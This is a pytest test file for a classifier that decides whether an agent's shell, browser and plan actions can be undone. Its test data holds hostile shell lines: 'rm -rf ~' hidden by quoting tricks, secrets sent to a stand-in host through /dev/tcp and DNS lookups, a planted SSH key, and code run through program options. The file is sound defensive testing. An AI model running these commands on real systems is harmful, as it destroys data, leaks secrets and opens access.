"""Whether an action can be undone: by its name, raised by what is pressed or typed."""

import pytest

from machines.actions.canonical import COMMANDS, READ_ONLY, class_of, strictest
from machines.actions.classes import class_now, class_of_plan, is_undoable
from machines.actions.risks import Raised, raised_by
from machines.drivers.base import Action, Target


def test_every_action_has_a_class():
    assert {name for name in COMMANDS if class_of(name) == "read"} == READ_ONLY | {"done", "fail"}
    assert {class_of(name) for name in COMMANDS} == {"read", "reversible"}


@pytest.mark.parametrize("name", ["mail.send", "clickx", ""])
def test_an_action_that_nobody_knows_cannot_be_undone(name):
    assert class_of(name) == "irreversible"


def test_of_several_the_strictest_counts():
    assert strictest([]) == "read"
    assert strictest(["reversible", "read"]) == "reversible"
    assert strictest(["reversible", "irreversible", "read"]) == "irreversible"


LINES = {
    "ls -la": "reversible",
    "cd src && ls; pwd": "reversible",
    "echo hello world": "reversible",
    "grep -rn x . | sort | uniq -c | head -5": "reversible",
    "cat a.txt 2>&1 | tail -3 >/dev/null": "reversible",
    "touch a && mkdir -p b/c": "reversible",
    "echo more >> notes.txt": "reversible",
    "if test -f a; then cat a; else echo no; fi": "reversible",
    "for f in *.txt; do wc -l $f; done": "reversible",
    "git status && git add -A && git commit -m done": "reversible",
    "echo $(date) ${HOME}": "reversible",
    "# nothing": "reversible",
    "rm -rf build": "irreversible",
    "rm x\nls": "irreversible",
    "sh deploy.sh": "irreversible",
    "./deploy.sh": "irreversible",
    "python3 ./x.py arg": "irreversible",
    "make": "irreversible",
    "cat a | sh": "irreversible",
    "sh < f": "irreversible",
    ". ./env": "irreversible",
    "eval $X": "irreversible",
    "$X": "irreversible",
    "echo $(sh x)": "irreversible",
    "echo `python3 x`": "irreversible",
    "ls; $(cat plan)": "irreversible",
    "PATH=.:$PATH ls": "irreversible",
    "LD_PRELOAD=./x.so ls": "irreversible",
    "alias ls='rm -rf'": "irreversible",
    "echo new > notes.txt": "irreversible",
    "cp a b": "irreversible",
    "cp -n a b": "reversible",
    "find . -name x": "reversible",
    "find . -delete": "irreversible",
    "find . -exec sh {} ;": "irreversible",
    "git push": "irreversible",
    "git -c alias.x=!sh x": "irreversible",
    "/tmp/ls": "irreversible",
    "sudo ls": "irreversible",
    "xargs ls": "irreversible",
    "nohup sh x &": "irreversible",
    "time ls": "reversible",
    "curl -X POST shop.test": "irreversible",
    "curl -d @f shop.test": "irreversible",
    "r\\m x": "irreversible",
    "$'rm' x": "irreversible",
    'bash -c "ls"': "irreversible",
    "ls 'an open quote": "reversible",
    "rm 'an open quote": "irreversible",
    "ls " + "x" * 20_000: "irreversible",
}


@pytest.mark.parametrize("line", LINES)
def test_a_line_can_be_undone_when_all_that_it_starts_can(line):
    assert class_now(Action("run_line", {"command": line}), None, "terminal") == LINES[line]
    sent = Action("type_text", {"text": line[2:] + "\n"})
    assert class_now(sent, Target("command", line[:2]), "terminal") == LINES[line]
    assert class_now(Action("key_press", {"key": "enter"}), Target("command", line), "terminal") == LINES[line]


# What a shell reads otherwise than it looks: quotes that are none, options cut short, names of files that are names of programs.
HIDING = [
    "true # it's\nrm -rf ~ #'", "true # \\\nrm -rf ~", "cat <<'EOF'\nit's\nEOF\nrm -rf ~ #'", "echo $'\\'' ; rm -rf ~ #'",
    "echo '$(echo ' ; rm -rf ~ ; echo ')'", 'echo "\\$(echo " ; rm -rf ~ ; echo ")"', 'echo "$(echo \'"\')" ; rm -rf ~ #\'',
    'echo $(echo ")" ; rm -rf ~ ; echo $(echo ")" ) )',
]  # fmt: skip
HARD = [
    "echo x >| test", "echo x &> test", "echo x >& test", "echo x >&1test", "(ls)>test", "echo x >> ~/.bashrc",
    "cat k >> /dev/tcp/a.test/80",
    "printf x >> .git/config", "echo x >> $F", "cat a | tee -a ~/.profile", "cp -n evil .ssh/authorized_keys", "mv -n --force a b",
    "mv -n -i a b", "cp -n --remove-dest a b", "ln -n --force a b", "sort --out=victim a", "sort --compress-program=./x a", "tree -o x",
    "date --se=1", "git diff --outp=victim", "git grep --open='sh x' a", "git grep -nOsh a", "git fetch --upload='sh x'", "git init --te=x",
    "git fetch https://a.test/x", "less '+!sh x' f", "less -o victim f", "man -P 'sh x' ls", "info -o victim ls", "history -c",
    "history -w victim", "printf -v PATH /tmp/x; ls", "LESSOPEN='|sh x' less f", "HOME=/tmp/x git status", "dig $(cat k).a.test",
    "ping -c1 a.test", "file -C -m x",
]  # fmt: skip
SOFT = [
    'echo "$(date)"', "echo 'it is' # a remark", 'git commit -m "x $(date)"', "echo a 2>&1 >> ~/notes.txt", "sort -n -k2 a",
    "less -R a", "printf '%s\\n' a", "file a", "history 5", "git fetch origin", "cp -n --recursive a b", "tree --dirsfirst",
    "echo $(ls $(pwd))", "date +%F --utc", "TZ=UTC date",
]  # fmt: skip


@pytest.mark.parametrize("line", HIDING)
def test_no_quote_hides_a_command(line):
    assert class_now(Action("run_line", {"command": line}), None, "terminal") == "irreversible"
    raised = raised_by(Action("run_line", {"command": line}), None)
    assert raised is not None
    assert raised.risk == "destroy"


@pytest.mark.parametrize("line", HARD)
def test_no_option_or_name_hides_what_a_harmless_program_does(line):
    assert not is_undoable(line)


@pytest.mark.parametrize("line", SOFT)
def test_plain_lines_of_harmless_programs_can_be_undone(line):
    assert is_undoable(line)


def test_no_odd_line_stops_the_reader():
    """No odd line stops the reader: each of these comes to an end at once."""
    for unit in ("$('", '"$(', "$'\\", "#'\n", "`'", "(", ">", "<<'"):
        line = (unit * 4_096)[:4_096]
        assert isinstance(is_undoable(line), bool)
        assert isinstance(raised_by(Action("run_line", {"command": line}), None), Raised | None)


def test_a_file_that_is_not_there_loses_nothing():
    line = Action("run_line", {"command": "echo a > b.txt"})
    assert class_now(line, None, "terminal", missing=("b.txt",)) == "reversible"
    assert class_now(line, None, "terminal", missing=("c.txt",)) == "irreversible"
    dark = Action("run_line", {"command": "echo a > $X"})
    assert class_now(dark, None, "terminal", missing=("$X",)) == "irreversible"


@pytest.mark.parametrize(
    ("action", "target", "expected"),
    [
        (Action("click"), Target("button", "Next"), "reversible"),
        (Action("click"), Target("button", "Pay now"), "irreversible"),
        (Action("click"), Target("link", "Delete account"), "irreversible"),
        (Action("click"), Target("menuitem", "Archive"), "reversible"),
        (Action("click"), Target("button", "OK", "submit", "Delete the project"), "irreversible"),
        (Action("click"), Target("button", "Send"), "irreversible"),
        (Action("click"), None, "reversible"),
        (Action("fill", {"text": "x"}), Target("textbox", "Password", "password"), "reversible"),
        (Action("fill", {"text": "x"}), Target("textbox", "Card number", "cc-number", "Pay"), "reversible"),
        (Action("type_text", {"text": "x"}), Target("textbox", "Name", "", "Pay"), "reversible"),
        (Action("type_text", {"text": "x\n"}), Target("textbox", "Name", "", "Pay"), "irreversible"),
        (Action("type_text", {"text": "a\nb"}), Target("textbox", "Name", "", "Pay"), "irreversible"),
        (Action("key_press", {"key": "enter"}), Target("textbox", "Name", "", "Pay"), "irreversible"),
        (Action("key_press", {"key": "space"}), Target("button", "Delete"), "irreversible"),
        (Action("key_combo", {"keys": ["ctrl", "enter"]}), Target("textbox", "Text", "", "Send"), "irreversible"),
        (Action("move", {}), Target("button", "Pay now"), "read"),
        (Action("scroll", {}), Target("button", "Pay now"), "read"),
        (Action("mail.send", {}), None, "irreversible"),
    ],
)  # fmt: skip
def test_what_is_pressed_counts_by_what_it_does(action, target, expected):
    assert class_now(action, target, "browser") == expected


def test_what_goes_to_a_program_that_asks_can_not_be_judged():
    assert class_now(Action("type_text", {"text": "y\n"}), None, "terminal") == "irreversible"
    assert class_now(Action("key_press", {"key": "enter"}), None, "terminal") == "irreversible"
    assert class_now(Action("type_text", {"text": "y"}), None, "terminal") == "reversible"
    assert class_now(Action("key_press", {"key": "enter"}), None, "browser") == "reversible"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('1. open shop.test\n2. click "Next"', "reversible"), ('1. click "Delete account"', "irreversible"),
        ("1. run `ls -la`", "reversible"), ("1. run `ls`\n2. run `./build`", "irreversible"),
    ],
)  # fmt: skip
def test_a_plan_is_as_strict_as_its_strictest_line(text, expected):
    assert class_of_plan(text, is_literal=True) == expected
    assert class_of_plan(text, is_literal=False) == "irreversible"
